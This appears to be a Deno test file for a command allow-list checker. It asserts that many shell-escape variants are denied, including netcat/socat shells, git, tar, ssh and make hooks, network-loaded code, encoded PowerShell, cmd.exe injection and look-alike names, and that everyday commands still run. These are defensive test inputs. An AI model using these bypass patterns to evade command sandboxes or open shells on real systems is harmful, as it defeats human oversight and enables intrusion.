/**
 * Variants of the rows of the security cases, one table line each: with every program allowed by name ("*") none of these
 * may run by a rule, because each can start a program that no rule was asked about. Beside them everyday uses of the same
 * programs, which must go on to run.
 */
import { assertEquals } from "@std/assert";
import { type Case, judge, runs, sh } from "./fake_machine.ts";

const PROGRAMS =
  "npm npx ssh scp sftp rsync vim vi less man zip wget make gmake cmake gcc clang g++ ld java go sqlite3 mysql psql ip nc ncat " +
  "socat openssl ssh-keygen ssh-add ssh-agent sshfs mosh apt-get dpkg nmap latex pdflatex pandoc gs hg svn bat ag ack fzf nano " +
  "groff ipython python3-dbg php-cgi deno bun setpriv ionice unshare xdg-open run-mailcap qemu-x86_64 wine bfs gdb script parallel ssh-agent envdir tee";
const machine = { programs: PROGRAMS };
const allow = ["*"];
const bash = (text: string) => ["/usr/bin/bash", "-c", text];

/** Lines are argv words separated by blanks, `␣` stands for a blank inside a word. */
const words = (line: string) => line.split(" ").map((word) => word.replaceAll("␣", " "));

const shell: Readonly<Record<string, readonly string[]>> = {
  "X06": [
    "echo `id`",
    'echo "`id`"',
    "echo ${x:-$(id)}",
    "echo $((1+$(id)))",
    "echo $[1]",
    "echo ${x@P}",
  ],
  "X07": ["cat <(id)", "tee >(id)", "cat 3< <(id)"],
  "X03": ["echo a & id", "echo a &", "coproc id", "echo a & wait"],
  "X04": ["echo a\nid", "echo a\r\nid", "echo a\rid", "echo a #x\nid", "echo 'a\n'\nid"],
  "X09": ["echo $\\\n(id)", "ec\\\nho", 'echo "a\\\nb"'],
  "X10": ["cat <<E\n$(id)\nE", "cat <<-E\nx\nE", "cat <<'E'\nx\nE", "cat <<<x", "cat <<E"],
  "X29": [
    "cat /etc/pass*",
    "cat ~/.x",
    "cat ~root/x",
    "cat [a]",
    "{cat,x}",
    "cat {a,b}",
    "cat {1..9}",
    "cat a=~/x",
  ],
  "X21": ["$0", '"$@"', "$'\\x69d'", '$"id"', '"$1" x'],
  "X02": [
    "f(){ id; }; f",
    "(id)",
    "{ id; }",
    "if true; then id; fi",
    "! id",
    "[[ a ]] && id",
    "for i in a; do id; done",
  ],
  "X12": [
    "alias a=id; a",
    "eval id",
    "exec id",
    "command id",
    "builtin echo",
    ". ./x",
    "source ./x",
    "trap id EXIT",
    "A=b id",
    "a[0]=b id",
    "let x=1",
    "export A=b",
  ],
  "X05": [
    "echo a >f",
    "echo a >>f",
    "echo a >|f",
    "echo a &>f",
    "echo a <>f",
    "cat <f",
    "echo a {n}>f",
    "echo a >&3",
  ],
};
for (const [id, texts] of Object.entries(shell)) {
  Deno.test(`${id}: variants of shell text are refused`, async () => {
    for (const text of texts) {
      for (const argv of [bash(text), sh(text)]) {
        const one: Case = { argv, allow, machine };
        assertEquals((await judge(one)).verdict.outcome, "deny", JSON.stringify(argv));
      }
    }
  });
}

const programs: Readonly<Record<string, string>> = {
  "X13: env":
    "env␣-S␣id|env -S id|env -iS id|env --split id|env -C / id|env -u A id|env - id|env A=b id",
  "X14: chains":
    "nice nice nice nice nice id|timeout 1 env -S id|nohup timeout 1 nice stdbuf -oL nohup id",
  "X15: carriers":
    "setpriv id|ionice id|unshare id|script -c id|parallel id|ssh-agent id|xdg-open x|run-mailcap x|qemu-x86_64 /usr/bin/id|wine x|bfs -exec id|envdir d id|gdb -ex x",
  "X15: find and xargs":
    "find . -exec sh -c id ;|find . -execdir id ;|find . -ok id ;|xargs env id|xargs sh -c id|xargs -a f sh|xargs nice id|find . -exec env id ;",
  "X15: git":
    "git -c core.pager=x log|git -ccore.pager=x log|git --config-env=core.pager=X log|git --exec-path=/tmp status|git log --ext-diff|git archive --remote=x --exec=id HEAD|git fetch --upload-pack id x|git ls-remote ext::sh|git rebase --exec id HEAD|git rebase -i HEAD|git config alias.x !id|git config --global core.fsmonitor id|git grep -Oid x|git clone -ccore.sshCommand=x u|git init --template=/tmp/x|git -c include.path=/x log|git bisect run id|git cat-file --textconv x",
  "X15: archives":
    "tar xf x --use-compress-prog=id|tar -I id -xf x|tar cfI x id y|tar xf x --to-com=id|tar cf x --checkpoint-action exec=id|tar -xf h:x --rsh-command=id|zip -T -TT id x",
  "X15: copies and connections":
    "rsync -e sh␣-c␣x a b:|rsync --rsh=id a b|rsync -avze id a b:|rsync --rsync-path=id a b|ssh -oProxyCommand=x h|ssh -vvoPermitLocalCommand=yes h|ssh -F/tmp/x h|scp -S id a b:|scp -D id a b|sshfs -o ssh_command=id h: m|mosh --ssh=id h|socat EXEC:id -|socat - SYSTEM:id|nc -e /bin/sh h 1|ncat --sh-exec id h|nc -lvpe 1 x",
  "X15: loaded code":
    "ssh-keygen -D /tmp/x.so|ssh-add -s /tmp/x.so|openssl engine -t x|openssl s_client -engine x|openssl dgst -provider x|java -javaagent:x.jar A|java -XX:OnError=id A|gcc -wrapper id x.c|clang -fplugin=x x.c|clang -B/tmp x.c|ld -plugin x|gcc @x",
  "X15: builds":
    "make --eval=x:;id|make -E x|make -f /dev/stdin|make -f - all|make -f- all|make CC=id|make X=$(shell␣id)|make SHELL=/tmp/x|gmake X!=id|cmake -E env id|cmake -P x|cmake -DCMAKE_C_COMPILER=/tmp/x .|go build -toolexec=id|go generate ./...",
  "X15: databases":
    "sqlite3 x .shell␣id|sqlite3 x .sh␣id|sqlite3 x -cmd .sy␣id|sqlite3 x .once␣|id|sqlite3 -init f x|psql -c \\!␣id|psql -f x|mysql -e \\!␣id|mysql -e system␣id|mysql --pager=id|sqlite3 x .read␣|id",
  "X15: packages and systems":
    "apt-get -o APT::Update::Pre-Invoke::=id update|apt-get -c x update|dpkg --pre-invoke=id|ip netns exec x id|ip net e x id|ip -b f|nmap --script=x h|hg --config alias.x=!id x|svn --diff-cmd id diff",
  "X15: pagers, editors, typesetting":
    "less +!id x|man -P id ls|nano -s id|bat --pager=id x|ag --pager=id x|ack --pager=id x|fzf --preview id|fzf --bind=start:execute(id)|pdflatex -shell-escape x|latex --shell-escape x|pandoc --filter id x|pandoc -Fid x|gs -c x|groff -U x|sed e␣id f|sed s/a/id/e f|sed 1e␣id f|sed -f x|wget --use-askpass=id u",
  "X17: multiplexers":
    "busybox id|busybox env id|busybox awk x|toybox id|busybox sh -c id;id|busybox find . -exec id ;",
  "X35: runners":
    "npx␣x|npx x|npm exec x|npm x x|npm exe x|npx --package=x y|npx -c id|bun x x|npm init x|npm --script-shell=id run x",
};
for (const [name, lines] of Object.entries(programs)) {
  Deno.test(`${name}: variants are refused although the program is allowed`, async () => {
    // "|" separates lines, except inside a word that was written with a blank in front of it.
    for (const line of lines.split(/(?<!␣)\|/)) {
      const { verdict } = await judge({ argv: words(line), allow, machine });
      assertEquals(verdict.outcome, "deny", line);
    }
  });
}

Deno.test("X33: code from the network or out of an address is inline code", async () => {
  const config = { strictInlineEval: true };
  for (
    const line of [
      "deno run https://a.example/x.ts",
      "deno run -A data:text/typescript,1",
      "deno run npm:x",
      "deno https://a.example/x.ts",
      "bun run https://a.example/x.ts",
      "node -pe 1",
      "node --import=data:text/javascript,1 x.js",
      "python3 -Ec 1",
      "python3 /dev/stdin",
      "node //dev/./fd/0",
      "perl /proc/self/fd/0",
      "ipython -c 1",
      "python3-dbg -c 1",
      "php-cgi -d x y",
      "python3 -bbm http.server",
      "perl -we 1",
      "ruby -ne 1",
    ]
  ) {
    const { verdict } = await judge({ argv: words(line), allow, machine, config });
    assertEquals(verdict.outcome, "deny", line);
  }
});

Deno.test("X40: every spelling of a PowerShell carrier is refused", async () => {
  const flags = [
    "-e",
    "-ec",
    "-en",
    "-enc",
    "-enco",
    "-EncodedCommand",
    "--enc",
    "/e",
    "-c",
    "-co",
    "-Command",
    "-f",
    "-",
    "\u2014e",
  ];
  for (
    const name of ["powershell", "pwsh", "powershell.exe", "PwSh.EXE", "C:\\x\\powershell.exe. "]
  ) {
    for (const flag of flags) {
      const { verdict } = await judge({ argv: [name, flag, "aQBkAA=="], allow, machine });
      assertEquals(verdict.outcome, "deny", `${name} ${flag}`);
    }
  }
});

const windows = {
  platform: "windows",
  executables: [
    "C:\\bin\\x.cmd",
    "C:\\bin\\sh.exe",
    "C:\\bin\\env.exe",
    "C:\\a&calc\\y.bat",
    "C:\\%PATH%\\z.cmd",
    "C:\\Windows\\System32\\cmd.exe",
  ],
  pathDirs: ["C:\\bin", "C:\\Windows\\System32"],
  cwd: "C:\\w",
} as const;

Deno.test("X43: odd arguments reach a batch file by no way round", async () => {
  for (
    const argv of [
      ["sh", "-c", "x '&calc&'"],
      ["sh", "-c", "x.cmd ok && x '%PATH%'"],
      ["sh", "-c", "x 'a|b'"],
      ["env", "x", "&calc"],
      ["C:\\a&calc\\y.bat"],
      ["C:\\a&calc\\y.bat", "ok"],
      ["C:\\%PATH%\\z.cmd"],
      ["X.CMD", "a^b"],
      ["x", "!x!"],
      ["x", "(a)"],
      ["x", "a\u2028&b"],
    ]
  ) {
    for (const settings of [{}, { security: "full" }]) {
      const { verdict } = await judge({ argv, allow, machine: windows, settings });
      assertEquals(verdict.outcome, "deny", JSON.stringify(argv));
    }
  }
  assertEquals(await runs({ argv: ["sh", "-c", "x build"], allow, machine: windows }), true);
});

Deno.test("X38, X39: cmd.exe text is refused in every spelling", async () => {
  for (
    const name of [
      "cmd",
      "CMD.exe",
      "C:\\Windows\\System32\\cmd.exe",
      "C:/Windows/System32/cmd.EXE",
    ]
  ) {
    for (
      const text of [
        "dir",
        "echo ^& calc",
        "echo %X:~0,1%calc",
        "echo !X!",
        "echo a|more",
        "@calc",
        "call x",
      ]
    ) {
      for (
        const flags of [["/c"], ["/C"], ["/d", "/s", "/c"], ["/v:on", "/c"], ["/q/c"], ["/k"], [
          "/r",
        ]]
      ) {
        const { verdict } = await judge({ argv: [name, ...flags, text], allow, machine: windows });
        assertEquals(verdict.outcome, "deny", `${name} ${flags} ${text}`);
      }
    }
  }
});

Deno.test("X37: look-alikes, joiners and marks are other names", async () => {
  for (
    const name of [
      "еcho",
      "echo\u202e",
      "\u2060echo",
      "ec\u0301ho",
      "echo\ufe0f",
      "ECHO",
      "echo\u3164",
      "ｅcho",
      "echo\u200d",
    ]
  ) {
    assertEquals(await runs({ argv: [name, "x"], allow: ["echo"], machine }), false, name);
  }
});

Deno.test("everyday uses of the same programs still run by their rule", async () => {
  for (
    const line of [
      "make -j4 test",
      "make CC=clang-17 all",
      "make CC=x86_64-linux-gnu-gcc",
      "make PREFIX=/usr/local install",
      "make -f build.mk all",
      "cmake -S . -B build",
      "cmake --build build",
      "gcc -O2 -Wall -o x x.c",
      "clang -c x.c",
      "java -Xmx1g -jar x.jar",
      "go build ./...",
      "go test ./...",
      "sqlite3 x.db select␣1",
      "sqlite3 -header -csv x.db .tables",
      "sqlite3 x.db .schema",
      "psql -h db -c select␣1",
      "mysql -e show␣tables",
      "ip addr",
      "ip -br link",
      "ip route show",
      "nc -zv host 22",
      "openssl x509 -in c.pem -noout -dates",
      "openssl s_client -connect a:443",
      "ssh-keygen -lf k.pub",
      "ssh-keygen -t ed25519 -f k",
      "ssh-add -l",
      "apt-get update",
      "apt-get install -y jq",
      "dpkg -l",
      "nmap -sT -p 22 h",
      "pdflatex -interaction=nonstopmode x.tex",
      "hg log -l 5",
      "svn diff",
      "bat x.ts",
      "ag -i todo src",
      "deno run main.ts",
      "rsync -av a/ b/",
      "tar -czf x.tgz src",
      "git log --oneline",
    ]
  ) {
    const argv = words(line);
    assertEquals(await runs({ argv, allow: [argv[0]], machine }), true, line);
  }
});
